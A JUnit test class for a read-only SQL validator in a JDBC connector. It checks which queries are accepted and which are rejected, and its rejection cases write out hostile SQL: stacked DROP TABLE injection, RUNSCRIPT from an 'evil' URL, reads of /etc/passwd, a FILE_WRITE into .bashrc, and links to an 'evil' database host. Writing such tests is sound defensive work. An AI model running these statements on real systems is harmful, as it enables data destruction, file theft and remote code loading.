package org.mapwright.internal.connector.jdbc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SqlTextTest {

    @ParameterizedTest
    @ValueSource(strings = {
            "SELECT * FROM customers",
            "select id, name from customers where name = 'delete me; drop table x'",
            "SELECT \"update\", \"into\" FROM t",
            "SELECT 1 -- then DELETE FROM t\n",
            "SELECT /* DROP TABLE t; */ 1",
            "SELECT /* nested /* DELETE */ still comment */ 1",
            "(SELECT 1) UNION (SELECT 2)",
            "WITH a AS (SELECT 1 AS x) SELECT x FROM a",
            "VALUES (1, 'a'), (2, 'b')",
            "TABLE customers",
            "SELECT $$ INSERT; DROP $$ AS body",
            "SELECT $tag$ it's ; fine $tag$",
            "SELECT E'it\\'s; DELETE' AS t",
            "SELECT created, updated_at, deleted FROM t" })
    void acceptsSingleReadingStatements(String sql) {
        SqlText.checkSelect(sql);
    }

    @Test
    void stripsTrailingSemicolonsAndBlanks() {
        assertEquals("SELECT 1", SqlText.checkSelect("  SELECT 1 ;; \n -- done\n"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "DELETE FROM customers|must be a SELECT, not DELETE",
            "update t set a = 1|must be a SELECT, not UPDATE",
            "DROP TABLE customers|must be a SELECT, not DROP",
            "CALL evil()|must be a SELECT, not CALL",
            "SET search_path = evil|must be a SELECT, not SET",
            "RUNSCRIPT FROM 'http://evil/x.sql'|must be a SELECT, not RUNSCRIPT",
            "SELECT 1; DROP TABLE customers|more than one statement",
            "SELECT 1 /* x */ ; DELETE FROM t|more than one statement",
            "SELECT 1;;SELECT 2|more than one statement",
            "WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone|DELETE, which modifies data",
            "SELECT * INTO copy FROM customers|creates a table",
            "SELECT * FROM t FOR UPDATE|modifies or locks data",
            "SELECT FILE_WRITE('x', '/home/u/.bashrc')|writes files",
            "SELECT * FROM CSVREAD('/etc/passwd')|reads files",
            "SELECT CSVWRITE('/tmp/x.csv', 'SELECT 1')|writes files",
            "SELECT LINK_SCHEMA('x', '', 'jdbc:h2:tcp://evil', 'sa', '', 'PUBLIC')|other databases",
            "SELECT pg_read_file('/etc/passwd')|reads files",
            "SELECT lo_export(1, '/tmp/x')|writes files",
            "SELECT dblink_exec('host=evil', 'DROP TABLE x')|other databases",
            "SELECT setval('s', 1)|modifies a sequence",
            "SELECT 'unclosed|unclosed ' quote",
            "SELECT /* unclosed|unclosed /* comment",
            "SELECT $$ unclosed|unclosed $$ quote" })
    void refusesWritesHiddenStatementsAndFileAccess(String sql, String reason) {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> SqlText.checkSelect(sql));
        assertTrue(e.getMessage().contains(reason), e.getMessage());
    }

    @Test
    void refusesQueryWithoutStatement() {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> SqlText.checkSelect("  -- only a comment\n ;"));
        assertEquals("the query is empty", e.getMessage());
    }
}
